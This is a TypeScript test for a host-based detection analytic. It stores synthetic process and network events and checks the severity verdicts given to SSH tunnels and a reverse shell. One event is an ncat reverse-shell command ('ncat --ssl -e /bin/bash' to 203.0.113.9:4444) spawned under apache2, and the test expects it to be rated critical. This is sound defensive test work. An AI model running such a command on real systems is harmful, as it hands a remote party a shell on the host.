import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { an1230 } from '../../src/analytics/an1230.ts';
import type { HostAnalytic } from '../../src/analytics/definition.ts';
import { addressSet, NO_ADDRESSES } from '../../src/model/addresses.ts';
import { insertEvents } from '../../src/store/clickhouse/event-insert.ts';
import { openClickHouse } from '../../src/store/clickhouse/open.ts';
import { gatherHostEvidence, type HostSite } from '../../src/watches/host-evidence.ts';
import { createHostOpener } from '../../src/watches/host-open.ts';
import { clickHouseHostStore } from '../../src/watches/host-store.ts';
import { connection, execution, listener, T0, web1 } from './tunnel-host.ts';

const folder = mkdtempSync(join(tmpdir(), 'postern-tunnels-'));
after(() => rmSync(folder, { recursive: true }));

const DAY = 86_400_000;
const www = { user: 'www-data', login: 'unset' };
const alice = { user: 'alice', login: 'alice', tty: 'pts0' };
const site: HostSite = {
  internal: addressSet('10.0.0.0/8'),
  natAddresses: NO_ADDRESSES,
  approvedUses: [
    {
      id: 'au1',
      hosts: ['web1'],
      users: ['alice'],
      tools: ['ssh'],
      destinations: ['10.20.0.0/24'],
      services: ['tcp/5432', 'tcp/22'],
      reason: 'database work',
    },
  ],
  tickets: [],
  enrich: () => ({ asn: 0, name: '', category: 'unknown' }) as ReturnType<HostSite['enrich']>,
  rulesetsOf: async () => [],
};

const tunnel = 'autossh -M 0 -N -R 2222:localhost:22 10.20.0.9'.split(' ');
const events = [
  ...[5, 4, 3, 2, 1, 0].map((days) =>
    execution({ exe: '/usr/bin/autossh', args: tunnel, ppid: 1, pid: 900 + days, atMs: T0 - days * DAY }),
  ),
  execution({ exe: '/usr/sbin/apache2', ...www, pid: 300, ppid: 1, atMs: T0 - 3_600_000 }),
  execution({
    exe: '/usr/bin/ncat',
    args: ['ncat', '--ssl', '-e', '/bin/bash', '203.0.113.9', '4444'],
    ...www,
    pid: 310,
    ppid: 300,
    atMs: T0,
  }),
  connection({ exe: '/usr/bin/ncat', ...www, pid: 310, ppid: 300, atMs: T0 + 40 }, '203.0.113.9', 4444),
  execution({ exe: '/usr/bin/ssh', args: ['ssh', 'jump'], ...alice, pid: 320, atMs: T0 + 1000 }),
  listener(
    { exe: '/usr/bin/ssh', args: ['ssh', 'jump'], ...alice, pid: 320, atMs: T0 + 1900 },
    '127.0.0.1',
    8080,
  ),
  execution({
    exe: '/usr/bin/ssh',
    args: 'ssh -L 5432:10.20.0.5:5432 10.20.0.9'.split(' '),
    ...alice,
    pid: 330,
    atMs: T0 + 3000,
  }),
];

test('stored events with their parents, history and approved uses lead to these verdicts', async () => {
  const client = await openClickHouse({ path: folder });
  try {
    await insertEvents(client, events);
    const analytic = an1230 as unknown as HostAnalytic;
    const opener = createHostOpener([{ analytic, parameters: an1230.parameters }]);
    const told: [string, string | undefined][] = [];
    for (const question of events.flatMap((event) => opener.event(event, web1))) {
      const asked = { analytic, parameters: an1230.parameters, site };
      const evidence = await gatherHostEvidence(clickHouseHostStore(client), question, T0 + 600_000, asked);
      const verdict = an1230.judge(question, evidence, an1230.parameters);
      told.push([question.key.split('|').slice(0, 2).join(' '), verdict.severity]);
      if (verdict.severity !== 'critical') continue;
      assert.equal(verdict.process?.parentExecutable, '/usr/sbin/apache2');
      assert.deepEqual(
        verdict.stages.map(({ name }) => name),
        ['process', 'connection'],
      );
    }
    assert.deepEqual(told, [
      ['autossh remote-forward', 'low'],
      ['autossh remote-forward', 'low'],
      ['autossh remote-forward', 'low'],
      // Usual by now.
      ['autossh remote-forward', undefined],
      ['autossh remote-forward', undefined],
      ['autossh remote-forward', undefined],
      ['ncat reverse-shell', 'critical'],
      ['listener ssh', 'low'],
      ['ssh local-forward', undefined],
    ]);
  } finally {
    await client.close();
  }
});
